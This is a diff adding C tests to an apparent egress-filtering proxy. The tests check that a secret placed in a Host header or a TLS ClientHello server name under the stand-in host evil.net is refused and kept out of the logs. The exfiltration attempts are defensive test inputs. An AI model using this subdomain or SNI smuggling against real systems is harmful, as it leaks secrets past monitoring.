@@ -152,6 +152,55 @@ static void a_secret_in_the_name_of_a_refused_host_is_not_logged(void **state)
     assert_null(strstr(egress_log(), EGRESS_SECRET));
 }
 
+static void a_secret_in_a_host_field_is_not_logged(void **state)
+{
+    (void)state;
+    talker_connect(&client, CONN_DIRECT);
+    talker_say(&client, "GET / HTTP/1.1\r\nHost: " EGRESS_SECRET ".evil.net\r\n\r\n");
+    assert_says(&client, "HTTP/1.1 403 ");
+    assert_logged("(withheld)");
+    assert_null(strstr(egress_log(), EGRESS_SECRET));
+}
+
+/* The shortest ClientHello with a name in it (RFC 8446 section 4.1.2, RFC 6066 section 3). */
+static void say_hello(struct talker *talker, struct span name)
+{
+    uint8_t out[256] = {22, 3, 1, 0, (uint8_t)(name.len + 56), 1, 0, 0, (uint8_t)(name.len + 52), 3, 3};
+    size_t len = 11 + 32 + 1; /* random and an empty session id are zeros */
+    const uint8_t rest[] = {0,
+                            2,
+                            0x13,
+                            1,
+                            1,
+                            0,
+                            0,
+                            (uint8_t)(name.len + 9),
+                            0,
+                            0,
+                            0,
+                            (uint8_t)(name.len + 5),
+                            0,
+                            (uint8_t)(name.len + 3),
+                            0,
+                            0,
+                            (uint8_t)name.len};
+
+    memcpy(out + len, rest, sizeof rest);
+    memcpy(out + len + sizeof rest, name.at, name.len);
+    talker_say_bytes(talker, (struct span){out, len + sizeof rest + name.len});
+}
+
+static void a_secret_in_the_name_of_a_hello_ends_it_and_is_not_logged(void **state)
+{
+    (void)state;
+    talker_connect(&client, CONN_DIRECT);
+    say_hello(&client, SPAN_LIT(EGRESS_SECRET ".evil.net"));
+    assert_says(&client, "\x15\x03\x01");
+    assert_true(client.eof || client.gone);
+    assert_logged("secret-found");
+    assert_null(strstr(egress_log(), EGRESS_SECRET));
+}
+
 static void names_that_disagree_are_refused(void **state)
 {
     (void)state;
@@ -447,6 +496,8 @@ int main(void)
         STORY(a_chunked_body_goes_out_whole_and_trailers_behind_it),
         STORY(a_secret_leaves_neither_in_method_nor_target_nor_field_nor_body_nor_trailer),
         STORY(a_secret_in_the_name_of_a_refused_host_is_not_logged),
+        STORY(a_secret_in_a_host_field_is_not_logged),
+        STORY(a_secret_in_the_name_of_a_hello_ends_it_and_is_not_logged),
         STORY(names_that_disagree_are_refused),
         STORY(a_name_that_leads_inside_is_refused_after_it_was_looked_up_and_not_dialled),
         STORY(a_head_that_reads_in_two_ways_is_refused_and_its_connection_ends),
